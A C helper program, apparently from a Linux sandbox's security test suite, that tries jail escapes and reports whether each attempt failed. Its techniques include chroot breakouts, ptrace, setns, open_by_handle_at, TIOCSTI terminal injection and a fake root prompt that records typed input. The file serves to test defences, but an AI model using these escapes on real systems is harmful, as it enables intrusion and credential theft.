/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * attack: a small static helper for tests/security/run.sh.  It is copied into
 * the security suite's own templates only (and, not setuid, to the scratch
 * directory for the host side).  Run by a jailed user, each subcommand tries
 * one way out of the jail and prints what happened as `key=value` lines, one
 * per attempt, so that the suite can assert that every attempt failed.
 * Values are an errno name (EPERM, ENOENT, ...) or OK.  A few subcommands
 * play the other side: a colluding process outside (serve-fd, give-fd,
 * tcp-serve) or a jailed process that lingers on a terminal (spy).
 *
 * Build: cc -static -O2 -o attack attack.c
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <arpa/inet.h>
#include <linux/mount.h>
#include <netinet/in.h>
#include <sys/ioctl.h>
#include <sys/ipc.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <stdbool.h>
#include <termios.h>
#include <time.h>

static const char *ename(int e)
{
	switch (e) {
	case 0: return "OK";
	case EPERM: return "EPERM";
	case EACCES: return "EACCES";
	case ENOENT: return "ENOENT";
	case ESRCH: return "ESRCH";
	case EINVAL: return "EINVAL";
	case EROFS: return "EROFS";
	case EBUSY: return "EBUSY";
	case ENOSYS: return "ENOSYS";
	case EEXIST: return "EEXIST";
	case ENOTDIR: return "ENOTDIR";
	case ELOOP: return "ELOOP";
	case EBADF: return "EBADF";
	case EIO: return "EIO";
	case ENOTTY: return "ENOTTY";
	case ECONNREFUSED: return "ECONNREFUSED";
	case ENOSPC: return "ENOSPC";
	case EXDEV: return "EXDEV";
	case EOPNOTSUPP: return "EOPNOTSUPP";
	default: {
		static char buf[32];

		snprintf(buf, sizeof(buf), "E%d", e);
		return buf;
	}
	}
}

/* prints key=OK or key=EXXX for a syscall result */
static int report(const char *key, long r)
{
	printf("%s=%s\n", key, r < 0 ? ename(errno) : "OK");
	fflush(stdout);
	return r < 0 ? -1 : 0;
}

static int same(const struct stat *a, const struct stat *b)
{
	return a->st_dev == b->st_dev && a->st_ino == b->st_ino;
}

/* Is directory fd `fd` below our root?  Walk ".." up: we reach our root, or
 * a directory that is its own parent (the top of some other tree). */
static int dir_inside(int fd)
{
	struct stat root, cur, up;
	int d = dup(fd);

	if (d < 0 || stat("/", &root) < 0)
		return -1;
	for (int i = 0; i < 4096; i++) {
		int nd;

		if (fstat(d, &cur) < 0)
			break;
		if (same(&cur, &root)) {
			close(d);
			return 1;
		}
		nd = openat(d, "..", O_PATH | O_DIRECTORY | O_CLOEXEC);
		if (nd < 0)
			break;
		if (fstat(nd, &up) < 0) {
			close(nd);
			break;
		}
		close(d);
		d = nd;
		if (same(&up, &cur)) {
			close(d);
			return 0; /* top of a tree that is not our root */
		}
	}
	close(d);
	return 0;
}

/* ---- chroot and ".." ------------------------------------------------------- */

static int cmd_chroot(void)
{
	struct stat root, st;
	int fd;

	if (stat("/", &root) < 0)
		return 1;
	(void)mkdir("/tmp/.attack-chroot", 0700);
	report("chroot", chroot("/tmp/.attack-chroot"));
	/* the classic: chroot into a subdirectory while holding a fd of the
	 * current directory, then walk ".." from it */
	fd = open(".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (chroot("/tmp/.attack-chroot") == 0) {
		if (fd >= 0)
			(void)fchdir(fd);
		for (int i = 0; i < 64; i++)
			(void)chdir("..");
		report("double-chroot", chroot("."));
	} else
		report("double-chroot", -1);
	if (fd >= 0)
		close(fd);
	/* plain "..": from / and from the home, 64 times up */
	(void)chdir("/");
	for (int i = 0; i < 64; i++)
		(void)chdir("..");
	if (stat(".", &st) == 0)
		printf("dotdot-from-root=%s\n", same(&st, &root) ? "inside" : "OUTSIDE");
	if (getenv("HOME") && chdir(getenv("HOME")) == 0) {
		for (int i = 0; i < 64; i++)
			(void)chdir("..");
		if (stat(".", &st) == 0)
			printf("dotdot-from-home=%s\n", same(&st, &root) ? "inside" : "OUTSIDE");
	}
	fd = open("/", O_PATH | O_DIRECTORY);
	if (fd >= 0) {
		printf("slash-inside=%s\n", dir_inside(fd) == 1 ? "inside" : "OUTSIDE");
		close(fd);
	}
	(void)rmdir("/tmp/.attack-chroot");
	return 0;
}

/* ---- other processes: /proc/PID/{root,cwd,fd}, ptrace ------------------------- */

static int is_pid(const char *s)
{
	if (!*s)
		return 0;
	for (; *s; s++)
		if (*s < '0' || *s > '9')
			return 0;
	return 1;
}

static int try_ptrace(pid_t pid)
{
	int status;

	if (ptrace(PTRACE_ATTACH, pid, NULL, NULL) < 0)
		return -errno;
	(void)waitpid(pid, &status, __WALL);
	(void)ptrace(PTRACE_DETACH, pid, NULL, NULL);
	return 0;
}

/* Open files of `pid` that are not reachable under the same name in here:
 * directories not below our root, files whose name resolves to another
 * object.  Pipes, sockets and anonymous inodes are not looked at. */
static int foreign_fds(pid_t pid)
{
	char path[64], fpath[300], target[4096];
	struct dirent *fe;
	int n_foreign = 0;
	DIR *fdd;

	snprintf(path, sizeof(path), "/proc/%d/fd", pid);
	fdd = opendir(path);
	if (!fdd)
		return 0;
	while ((fe = readdir(fdd))) {
		struct stat a, b;
		ssize_t n;

		if (!is_pid(fe->d_name))
			continue;
		snprintf(fpath, sizeof(fpath), "/proc/%d/fd/%s", pid, fe->d_name);
		n = readlink(fpath, target, sizeof(target) - 1);
		if (n < 0 || stat(fpath, &a) < 0)
			continue;
		target[n] = '\0';
		if (S_ISDIR(a.st_mode)) {
			int dfd = open(fpath, O_PATH | O_DIRECTORY | O_CLOEXEC);

			if (dfd >= 0 && dir_inside(dfd) != 1) {
				printf("fd pid=%d fd=%s target=%s OUTSIDE\n", pid, fe->d_name,
				       target);
				n_foreign++;
			}
			if (dfd >= 0)
				close(dfd);
		} else if (S_ISREG(a.st_mode) || S_ISCHR(a.st_mode) || S_ISBLK(a.st_mode)) {
			if (target[0] != '/' || stat(target, &b) < 0 || !same(&a, &b)) {
				printf("fd pid=%d fd=%s target=%s OUTSIDE\n", pid, fe->d_name,
				       target);
				n_foreign++;
			}
		}
	}
	closedir(fdd);
	return n_foreign;
}

/* Every process of this PID namespace, visible in /proc or not (probed by
 * number with kill(pid, 0)): may we reach its root, its cwd, its open files,
 * may we trace it?  Each must be denied, or inside our root anyway. */
static int cmd_procscan(void)
{
	struct stat root;
	int pids = 0, visible = 0, foreign = 0, self = getpid(), parent = getppid();

	if (stat("/", &root) < 0)
		return 1;
	for (int pid = 1; pid <= 4096; pid++) {
		char path[64], comm[64] = "?";
		const char *rv = "DENIED", *cv = "DENIED", *pv = "skipped";
		struct stat st;
		int fd, r;
		FILE *f;

		if (kill(pid, 0) < 0 && errno != EPERM)
			continue;
		pids++;
		snprintf(path, sizeof(path), "/proc/%d", pid);
		if (stat(path, &st) == 0)
			visible++;
		snprintf(path, sizeof(path), "/proc/%d/comm", pid);
		if ((f = fopen(path, "re"))) {
			if (fgets(comm, sizeof(comm), f))
				comm[strcspn(comm, "\n")] = '\0';
			fclose(f);
		}
		snprintf(path, sizeof(path), "/proc/%d/root", pid);
		fd = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
		if (fd >= 0) {
			rv = (fstat(fd, &st) == 0 && same(&st, &root)) ? "same" : "FOREIGN";
			close(fd);
		}
		snprintf(path, sizeof(path), "/proc/%d/cwd", pid);
		fd = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
		if (fd >= 0) {
			cv = dir_inside(fd) == 1 ? "inside" : "OUTSIDE";
			close(fd);
		}
		if (pid != self && pid != parent) {
			r = try_ptrace(pid);
			pv = r == 0 ? "OK" : ename(-r);
		}
		/* tracing is harmless only for processes that are in here anyway */
		if (strcmp(rv, "FOREIGN") == 0 || strcmp(cv, "OUTSIDE") == 0 ||
		    (strcmp(pv, "OK") == 0 && strcmp(rv, "same") != 0))
			foreign++;
		printf("proc pid=%d comm=%s root=%s cwd=%s ptrace=%s\n", pid, comm, rv, cv, pv);
		foreign += foreign_fds(pid);
	}
	printf("procscan pids=%d visible=%d foreign=%d\n", pids, visible, foreign);
	return 0;
}

static int cmd_ptrace(int argc, char **argv)
{
	for (int i = 0; i < argc; i++) {
		char key[64];
		int r = try_ptrace(atoi(argv[i]));

		snprintf(key, sizeof(key), "ptrace-%s", argv[i]);
		printf("%s=%s\n", key, ename(-r));
	}
	return 0;
}

static int cmd_kill(int argc, char **argv)
{
	for (int i = 0; i < argc; i++) {
		char key[64];

		snprintf(key, sizeof(key), "kill-%s", argv[i]);
		report(key, kill(atoi(argv[i]), 0));
	}
	return 0;
}

/* ---- namespaces, mounts, devices ------------------------------------------- */

static int cmd_ns(void)
{
	static const struct {
		const char *name;
		int flag;
	} f[] = {
		{ "user", CLONE_NEWUSER }, { "mnt", CLONE_NEWNS },  { "pid", CLONE_NEWPID },
		{ "net", CLONE_NEWNET },   { "uts", CLONE_NEWUTS }, { "ipc", CLONE_NEWIPC },
		{ "cgroup", CLONE_NEWCGROUP }, { "time", 0x00000080 /* CLONE_NEWTIME */ },
	};
	char key[64];
	int fd;

	for (size_t i = 0; i < sizeof(f) / sizeof(f[0]); i++) {
		snprintf(key, sizeof(key), "unshare-%s", f[i].name);
		report(key, unshare(f[i].flag));
	}
	/* clone() with a new user namespace, as a container runtime would */
	{
		pid_t pid =
			(pid_t)syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, NULL, NULL, NULL, NULL);

		if (pid == 0)
			_exit(0);
		if (pid > 0)
			(void)waitpid(pid, NULL, 0);
		report("clone-newuser", pid);
	}
	fd = open("/proc/self/ns/mnt", O_RDONLY | O_CLOEXEC);
	report("setns-own-mnt", fd < 0 ? -1 : setns(fd, 0));
	if (fd >= 0)
		close(fd);
	fd = open("/proc/1/ns/mnt", O_RDONLY | O_CLOEXEC);
	report("open-init-mnt-ns", fd);
	if (fd >= 0) {
		report("setns-init-mnt", setns(fd, 0));
		close(fd);
	}
	return 0;
}

static int cmd_mount(void)
{
	struct mount_attr attr = { .attr_clr = MOUNT_ATTR_RDONLY | MOUNT_ATTR_NOSUID };

	report("mount-tmpfs", mount("none", "/tmp", "tmpfs", 0, NULL));
	report("mount-bind", mount("/", "/tmp", NULL, MS_BIND, NULL));
	report("mount-remount-rw", mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL));
	report("mount-proc", mount("proc", "/tmp", "proc", 0, NULL));
	report("umount-tmp", umount2("/tmp", 0));
	report("umount-proc-lazy", umount2("/proc", MNT_DETACH));
	report("umount-root-lazy", umount2("/", MNT_DETACH));
	report("pivot_root", syscall(SYS_pivot_root, "/tmp", "/tmp"));
	report("fsopen", syscall(SYS_fsopen, "tmpfs", 0));
	report("open_tree-clone", syscall(SYS_open_tree, AT_FDCWD, "/", OPEN_TREE_CLONE));
	report("mount_setattr", syscall(SYS_mount_setattr, AT_FDCWD, "/", 0, &attr, sizeof(attr)));
	return 0;
}

static int cmd_mknod(int argc, char **argv)
{
	char key[300];

	for (int i = 0; i < argc; i++) {
		snprintf(key, sizeof(key), "mknod-char-%s", argv[i]);
		if (report(key, mknod(argv[i], S_IFCHR | 0666, makedev(1, 1))) == 0)
			(void)unlink(argv[i]);
		snprintf(key, sizeof(key), "mknod-block-%s", argv[i]);
		if (report(key, mknod(argv[i], S_IFBLK | 0666, makedev(8, 0))) == 0)
			(void)unlink(argv[i]);
	}
	return 0;
}

/* "shocker": a file handle opens any inode of the file system, bypassing the
 * chroot; needs CAP_DAC_READ_SEARCH */
static int cmd_handle(int argc, char **argv)
{
	struct {
		struct file_handle fh;
		unsigned char data[MAX_HANDLE_SZ];
	} h;
	int mount_id, fd;

	if (argc < 1)
		return 2;
	h.fh.handle_bytes = MAX_HANDLE_SZ;
	if (report("name_to_handle_at", name_to_handle_at(AT_FDCWD, argv[0], &h.fh, &mount_id, 0)) <
	    0)
		return 0;
	fd = open(argv[0], O_RDONLY | O_CLOEXEC);
	report("open_by_handle_at", fd < 0 ? -1 : open_by_handle_at(fd, &h.fh, O_RDONLY));
	return 0;
}

static int cmd_ids(void)
{
	uid_t r, e, s;
	gid_t gr, ge, gs;

	getresuid(&r, &e, &s);
	getresgid(&gr, &ge, &gs);
	printf("ruid=%u euid=%u suid=%u rgid=%u egid=%u sgid=%u nnp=%d\n", r, e, s, gr, ge, gs,
	       prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0));
	/* with root we could write anywhere; the proof is a failed open */
	report("open-shadow", open("/etc/shadow", O_RDONLY));
	return 0;
}

/* ---- terminals ----------------------------------------------------------- */

/* tiocsti RESULTFILE TEXT: push TEXT into the input queue of the terminal on
 * fd 0, record the ioctl's result in RESULTFILE (stdout is the terminal). */
static int cmd_tiocsti(int argc, char **argv)
{
	int err = 0;
	FILE *f;

	if (argc < 2)
		return 2;
	/* "tiocsti --orphan FILE TEXT": wait until our parent (the shell that
	 * started us) is gone, then push: the moment the login ends */
	if (strcmp(argv[0], "--orphan") == 0) {
		struct pollfd pfd = { .fd = (int)syscall(SYS_pidfd_open, getppid(), 0),
				      .events = POLLIN };

		argv++;
		argc--;
		if (argc < 2)
			return 2;
		/* a pidfd turns readable when its process has exited */
		if (pfd.fd >= 0)
			(void)poll(&pfd, 1, 5000);
	}
	for (const char *p = argv[1]; *p; p++)
		if (ioctl(0, TIOCSTI, p) < 0) {
			err = errno;
			break;
		}
	f = fopen(argv[0], "we");
	if (!f)
		return 1;
	fprintf(f, "tiocsti=%s\n", ename(err));
	fclose(f);
	return 0;
}

/* spy FILE SECONDS: stay on the terminal after the login's shell is gone,
 * show a fake root prompt and record whatever is typed into FILE */
static int cmd_spy(int argc, char **argv)
{
	char buf[512];
	FILE *f;
	ssize_t n;

	if (argc < 2)
		return 2;
	signal(SIGHUP, SIG_IGN);
	f = fopen(argv[0], "ae");
	if (!f)
		return 1;
	setvbuf(f, NULL, _IONBF, 0);
	sleep(1);
	{
		static const char prompt[] = "\r\nroot@host:~# ";

		(void)!write(1, prompt, sizeof(prompt) - 1);
	}
	alarm((unsigned)atoi(argv[1]));
	while ((n = read(0, buf, sizeof(buf))) > 0)
		fwrite(buf, 1, (size_t)n, f);
	fclose(f);
	return 0;
}


/* what fd N is, as seen from inside the jail: closed, pipe, file, dir, socket,
 * tty-jail (a pty of the jail's own devpts), tty-host (any other terminal), chr */
static const char *fd_kind(int fd)
{
	struct stat st, pts;

	if (fstat(fd, &st) < 0)
		return "closed";
	if (isatty(fd)) {
		if (stat("/dev/pts", &pts) == 0 && st.st_dev == pts.st_dev)
			return "tty-jail";
		return "tty-host";
	}
	switch (st.st_mode & S_IFMT) {
	case S_IFIFO: return "pipe";
	case S_IFREG: return "file";
	case S_IFDIR: return "dir";
	case S_IFSOCK: return "socket";
	case S_IFCHR: return "chr";
	default: return "other";
	}
}

/* Which terminal is our controlling one?  /dev/tty is 5:0 whichever it is,
 * so look for the terminal whose session is ours: one of fds 0-2, or one of
 * the jail's /dev/pts/N.  None of those: a terminal outside the jail.  (A
 * session led from outside our PID namespace shows as 0: outside.) */
static const char *ctty_kind(void)
{
	pid_t sid = getsid(0);
	struct dirent *de;
	DIR *d;

	if (sid <= 0)
		return "tty-host";
	for (int fd = 0; fd < 3; fd++)
		if (isatty(fd) && tcgetsid(fd) == sid)
			return fd_kind(fd);
	d = opendir("/dev/pts");
	while (d && (de = readdir(d))) {
		char path[300];
		int f;

		if (de->d_name[0] < '0' || de->d_name[0] > '9')
			continue;
		snprintf(path, sizeof(path), "/dev/pts/%s", de->d_name);
		f = open(path, O_RDWR | O_NOCTTY | O_NONBLOCK | O_CLOEXEC);
		if (f >= 0 && tcgetsid(f) == sid) {
			close(f);
			closedir(d);
			return "tty-jail";
		}
		if (f >= 0)
			close(f);
	}
	if (d)
		closedir(d);
	return "tty-host";
}

/* push TEXT into the input queue of fd's terminal; the result's errno name */
static const char *sti(int fd, const char *text)
{
	for (const char *p = text; *p; p++) {
		/* a literal backslash-n is a newline (Enter), so that TEXT can be
		 * typed as one line by the test */
		char c = (p[0] == '\\' && p[1] == 'n') ? (p++, '\n') : *p;

		if (ioctl(fd, TIOCSTI, &c) < 0)
			return ename(errno);
	}
	return "OK";
}

/* term [TEXT]: what a jailed command got from whoever started it.  Prints
 * fdN= for fds 0-2, extra= (fds above 2: their kinds, or "none"),
 * session= ("own" when this session's leader is inside the jail's PID
 * namespace, "outside" when it is the caller's), ctty= (none, tty-jail,
 * tty-host), and with TEXT tries TIOCSTI of TEXT on every terminal it has:
 * stiN= and sti-ctty=. */
static int cmd_term(int argc, char **argv)
{
	char extra[512] = "";
	struct dirent *de;
	DIR *d;
	int tty;

	for (int fd = 0; fd < 3; fd++)
		printf("fd%d=%s\n", fd, fd_kind(fd));
	d = opendir("/proc/self/fd");
	while (d && (de = readdir(d))) {
		int fd = atoi(de->d_name);

		if (de->d_name[0] == '.' || fd < 3 || fd == dirfd(d))
			continue;
		snprintf(extra + strlen(extra), sizeof(extra) - strlen(extra), "%s%d:%s",
			 extra[0] ? "," : "", fd, fd_kind(fd));
	}
	if (d)
		closedir(d);
	printf("extra=%s\n", extra[0] ? extra : "none");
	/* the test exports ADMIN_SECRET in the admin's shell */
	printf("admin-env=%s\n", getenv("ADMIN_SECRET") ? "yes" : "no");
	/* a session whose leader is outside our PID namespace shows as 0 */
	printf("session=%s\n", getsid(0) == 0 ? "outside" : "own");
	tty = open("/dev/tty", O_RDWR | O_NOCTTY | O_CLOEXEC);
	printf("ctty=%s\n", tty < 0 ? "none" : ctty_kind());
	if (argc >= 1) {
		for (int fd = 0; fd < 3; fd++)
			if (isatty(fd))
				printf("sti%d=%s\n", fd, sti(fd, argv[0]));
		if (tty >= 0)
			printf("sti-ctty=%s\n", sti(tty, argv[0]));
	}
	if (tty >= 0)
		close(tty);
	return 0;
}

/* linger FILE SECS TEXT: leave a process behind that, once the command that
 * started it has exited, keeps trying for SECS seconds to write to fds 1 and
 * 2, read fd 0 and push TEXT into every terminal it has; records into FILE
 * what got through (write1=, write2=, read=, sti=) */
static int cmd_linger(int argc, char **argv)
{
	pid_t parent = getppid();

	if (argc < 3)
		return 2;
	/* as a real leftover would: deaf to the hangup that comes when the
	 * session leader exits, before the fork */
	signal(SIGHUP, SIG_IGN);
	signal(SIGPIPE, SIG_IGN);
	if (fork() != 0)
		return 0;
	{
		struct pollfd pfd = { .fd = (int)syscall(SYS_pidfd_open, parent, 0),
				      .events = POLLIN };

		if (pfd.fd >= 0)
			(void)poll(&pfd, 1, 10000);
		/* past the relay's drain of what the command itself wrote */
		sleep(1);
	}
	{
		FILE *f = fopen(argv[0], "we");
		time_t end = time(NULL) + atoi(argv[1]);
		bool w1 = false, w2 = false, got_sti = false;
		char buf[256];
		size_t nread = 0;
		int tty = open("/dev/tty", O_RDWR | O_NOCTTY | O_CLOEXEC);

		if (!f)
			return 1;
		setvbuf(f, NULL, _IONBF, 0);
		(void)fcntl(0, F_SETFL, fcntl(0, F_GETFL) | O_NONBLOCK);
		while (time(NULL) < end) {
			ssize_t n;

			if (write(1, "LEFTOVER-WRITE\n", 15) == 15)
				w1 = true;
			if (write(2, "LEFTOVER-WRITE\n", 15) == 15)
				w2 = true;
			n = read(0, buf, sizeof(buf));
			if (n > 0) {
				fprintf(f, "read-data=%.*s\n", (int)n, buf);
				nread += (size_t)n;
			}
			for (int fd = 0; fd < 3; fd++)
				if (isatty(fd) && strcmp(sti(fd, argv[2]), "OK") == 0)
					got_sti = true;
			if (tty >= 0 && strcmp(sti(tty, argv[2]), "OK") == 0)
				got_sti = true;
			usleep(200 * 1000);
		}
		fprintf(f, "write1=%s\nwrite2=%s\nread=%zu\nsti=%s\ndone=1\n", w1 ? "OK" : "FAIL",
			w2 ? "OK" : "FAIL", nread, got_sti ? "OK" : "FAIL");
		fclose(f);
	}
	return 0;
}

/* grabfds PID: take every fd of process PID (pidfd_getfd, as the same user)
 * and print the kinds of what it holds: grabbed=KIND,... or grabbed=none */
static int cmd_grabfds(int argc, char **argv)
{
	char out[1024] = "";
	int pidfd;

	if (argc < 1)
		return 2;
	pidfd = (int)syscall(SYS_pidfd_open, atoi(argv[0]), 0);
	if (report("pidfd-open", pidfd) < 0)
		return 0;
	for (int fd = 0; fd < 64; fd++) {
		int got = (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0);

		if (got < 0)
			continue;
		snprintf(out + strlen(out), sizeof(out) - strlen(out), "%s%d:%s", out[0] ? "," : "",
			 fd, fd_kind(got));
		close(got);
	}
	printf("grabbed=%s\n", out[0] ? out : "none");
	return 0;
}

/* ---- IPC ---------------------------------------------------------------- */

static int cmd_ipc(int argc, char **argv)
{
	key_t key;
	int id;

	if (argc < 2)
		return 2;
	key = (key_t)strtol(argv[1], NULL, 0);
	if (strcmp(argv[0], "make") == 0) {
		id = shmget(key, 4096, IPC_CREAT | 0666);
		report("shm-make", id);
		return 0;
	}
	if (strcmp(argv[0], "find") == 0) {
		id = shmget(key, 0, 0);
		report("shm-find", id);
		return 0;
	}
	if (strcmp(argv[0], "remove") == 0) {
		id = shmget(key, 0, 0);
		report("shm-remove", id < 0 ? -1 : shmctl(id, IPC_RMID, NULL));
		return 0;
	}
	return 2;
}

/* ---- unix sockets: passing a directory fd into a jail ----------------------
 * ADDR is "@name" (abstract) or a path.  Whichever side listens, the fd of a
 * directory travels from the process outside to the one inside. */

static socklen_t unix_addr(struct sockaddr_un *sa, const char *addr)
{
	memset(sa, 0, sizeof(*sa));
	sa->sun_family = AF_UNIX;
	if (addr[0] == '@') {
		snprintf(sa->sun_path + 1, sizeof(sa->sun_path) - 1, "%s", addr + 1);
		return (socklen_t)(offsetof(struct sockaddr_un, sun_path) + strlen(addr));
	}
	snprintf(sa->sun_path, sizeof(sa->sun_path), "%s", addr);
	return (socklen_t)sizeof(*sa);
}

static int send_fd(int s, int fd)
{
	char cbuf[CMSG_SPACE(sizeof(int))], one = 'x';
	struct iovec iov = { .iov_base = &one, .iov_len = 1 };
	struct msghdr m = { .msg_iov = &iov,
			    .msg_iovlen = 1,
			    .msg_control = cbuf,
			    .msg_controllen = sizeof(cbuf) };
	struct cmsghdr *cm = CMSG_FIRSTHDR(&m);

	cm->cmsg_level = SOL_SOCKET;
	cm->cmsg_type = SCM_RIGHTS;
	cm->cmsg_len = CMSG_LEN(sizeof(int));
	memcpy(CMSG_DATA(cm), &fd, sizeof(int));
	return (int)sendmsg(s, &m, 0);
}

/* receive a directory fd on s, report where it leads, read FILE below it */
static int use_fd(int s, const char *file)
{
	char cbuf[CMSG_SPACE(sizeof(int))], one, buf[256];
	struct iovec iov = { .iov_base = &one, .iov_len = 1 };
	struct msghdr m = { .msg_iov = &iov,
			    .msg_iovlen = 1,
			    .msg_control = cbuf,
			    .msg_controllen = sizeof(cbuf) };
	struct cmsghdr *cm;
	int dfd, fd;
	ssize_t n;

	if (report("sock-recvmsg", recvmsg(s, &m, 0)) < 0)
		return 0;
	cm = CMSG_FIRSTHDR(&m);
	if (!cm || cm->cmsg_type != SCM_RIGHTS) {
		printf("sock-fd=none\n");
		return 0;
	}
	memcpy(&dfd, CMSG_DATA(cm), sizeof(int));
	printf("sock-fd-inside=%s\n", dir_inside(dfd) == 1 ? "inside" : "OUTSIDE");
	fd = openat(dfd, file, O_RDONLY | O_CLOEXEC);
	if (report("sock-open", fd) == 0) {
		n = read(fd, buf, sizeof(buf) - 1);
		buf[n > 0 ? n : 0] = '\0';
		printf("sock-read=%s", buf);
	}
	return 0;
}

/* serve-fd ADDR DIR SECONDS: listen on ADDR, hand every client a fd of DIR */
static int cmd_serve_fd(int argc, char **argv)
{
	struct sockaddr_un sa;
	socklen_t len;
	int s, c, dfd;

	if (argc < 3)
		return 2;
	dfd = open(argv[1], O_PATH | O_DIRECTORY | O_CLOEXEC);
	s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	len = unix_addr(&sa, argv[0]);
	if (dfd < 0 || s < 0 || bind(s, (struct sockaddr *)&sa, len) < 0 || listen(s, 4) < 0) {
		perror("serve-fd");
		return 1;
	}
	if (argv[0][0] != '@')
		(void)chmod(argv[0], 0777);
	printf("listening\n");
	alarm((unsigned)atoi(argv[2]));
	while ((c = accept4(s, NULL, NULL, SOCK_CLOEXEC)) >= 0) {
		(void)send_fd(c, dfd);
		close(c);
	}
	return 0;
}

/* get-fd ADDR FILE: connect to ADDR, receive a directory fd, read FILE below it */
static int cmd_get_fd(int argc, char **argv)
{
	struct sockaddr_un sa;
	socklen_t len;
	int s;

	if (argc < 2)
		return 2;
	s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	len = unix_addr(&sa, argv[0]);
	if (report("sock-connect", s < 0 ? -1 : connect(s, (struct sockaddr *)&sa, len)) < 0)
		return 0;
	return use_fd(s, argv[1]);
}

/* wait-fd ADDR FILE SECONDS: listen on ADDR; the first client must bring a
 * directory fd; read FILE below it */
static int cmd_wait_fd(int argc, char **argv)
{
	struct sockaddr_un sa;
	socklen_t len;
	int s, c;

	if (argc < 3)
		return 2;
	s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	len = unix_addr(&sa, argv[0]);
	if (report("sock-listen",
		   s < 0 || bind(s, (struct sockaddr *)&sa, len) < 0 ? -1 : listen(s, 4)) < 0)
		return 0;
	if (argv[0][0] != '@')
		(void)chmod(argv[0], 0777);
	alarm((unsigned)atoi(argv[2]));
	c = accept4(s, NULL, NULL, SOCK_CLOEXEC);
	if (report("sock-accept", c) < 0)
		return 0;
	return use_fd(c, argv[1]);
}

/* give-fd ADDR DIR: connect to ADDR and hand over a fd of DIR */
static int cmd_give_fd(int argc, char **argv)
{
	struct sockaddr_un sa;
	socklen_t len;
	int s, dfd;

	if (argc < 2)
		return 2;
	dfd = open(argv[1], O_PATH | O_DIRECTORY | O_CLOEXEC);
	s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	len = unix_addr(&sa, argv[0]);
	if (report("give-connect",
		   dfd < 0 || s < 0 ? -1 : connect(s, (struct sockaddr *)&sa, len)) < 0)
		return 0;
	report("give-sendmsg", send_fd(s, dfd));
	return 0;
}

/* ---- TCP on the host's loopback ----------------------------------------- */

static int tcp_addr(struct sockaddr_in *sa, const char *port)
{
	memset(sa, 0, sizeof(*sa));
	sa->sin_family = AF_INET;
	sa->sin_port = htons((unsigned short)atoi(port));
	sa->sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	return 0;
}

/* tcp-serve PORT SECONDS TEXT: answer every connection to 127.0.0.1:PORT with TEXT */
static int cmd_tcp_serve(int argc, char **argv)
{
	struct sockaddr_in sa;
	int s, c, one = 1;

	if (argc < 3)
		return 2;
	tcp_addr(&sa, argv[0]);
	s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	(void)setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (s < 0 || bind(s, (struct sockaddr *)&sa, sizeof(sa)) < 0 || listen(s, 8) < 0) {
		perror("tcp-serve");
		return 1;
	}
	printf("listening\n");
	alarm((unsigned)atoi(argv[1]));
	while ((c = accept4(s, NULL, NULL, SOCK_CLOEXEC)) >= 0) {
		(void)!write(c, argv[2], strlen(argv[2]));
		(void)!write(c, "\n", 1);
		close(c);
	}
	return 0;
}

/* tcp-get PORT: connect to 127.0.0.1:PORT and print what comes back */
static int cmd_tcp_get(int argc, char **argv)
{
	struct sockaddr_in sa;
	char buf[256];
	ssize_t n;
	int s;

	if (argc < 1)
		return 2;
	tcp_addr(&sa, argv[0]);
	s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (report("tcp-connect", s < 0 ? -1 : connect(s, (struct sockaddr *)&sa, sizeof(sa))) < 0)
		return 0;
	n = read(s, buf, sizeof(buf) - 1);
	buf[n > 0 ? n : 0] = '\0';
	printf("tcp-read=%s", buf);
	return 0;
}

int main(int argc, char **argv)
{
	const char *cmd = argc > 1 ? argv[1] : "";

	setvbuf(stdout, NULL, _IOLBF, 0);
	argc -= 2;
	argv += 2;
	if (strcmp(cmd, "chroot") == 0)
		return cmd_chroot();
	if (strcmp(cmd, "procscan") == 0)
		return cmd_procscan();
	if (strcmp(cmd, "ptrace") == 0)
		return cmd_ptrace(argc, argv);
	if (strcmp(cmd, "kill0") == 0)
		return cmd_kill(argc, argv);
	if (strcmp(cmd, "ns") == 0)
		return cmd_ns();
	if (strcmp(cmd, "mount") == 0)
		return cmd_mount();
	if (strcmp(cmd, "mknod") == 0)
		return cmd_mknod(argc, argv);
	if (strcmp(cmd, "handle") == 0)
		return cmd_handle(argc, argv);
	if (strcmp(cmd, "ids") == 0)
		return cmd_ids();
	if (strcmp(cmd, "tiocsti") == 0)
		return cmd_tiocsti(argc, argv);
	if (strcmp(cmd, "exec0") == 0 && argc >= 1) {
		/* run argv[0] with an empty argument vector (argc == 0) */
		char *none[] = { NULL };
		extern char **environ;

		execve(argv[0], none, environ);
		return report("exec0", -1) + 127;
	}
	if (strcmp(cmd, "tcp-serve") == 0)
		return cmd_tcp_serve(argc, argv);
	if (strcmp(cmd, "tcp-get") == 0)
		return cmd_tcp_get(argc, argv);
	if (strcmp(cmd, "spy") == 0)
		return cmd_spy(argc, argv);
	if (strcmp(cmd, "term") == 0)
		return cmd_term(argc, argv);
	if (strcmp(cmd, "linger") == 0)
		return cmd_linger(argc, argv);
	if (strcmp(cmd, "grabfds") == 0)
		return cmd_grabfds(argc, argv);
	if (strcmp(cmd, "ipc") == 0)
		return cmd_ipc(argc, argv);
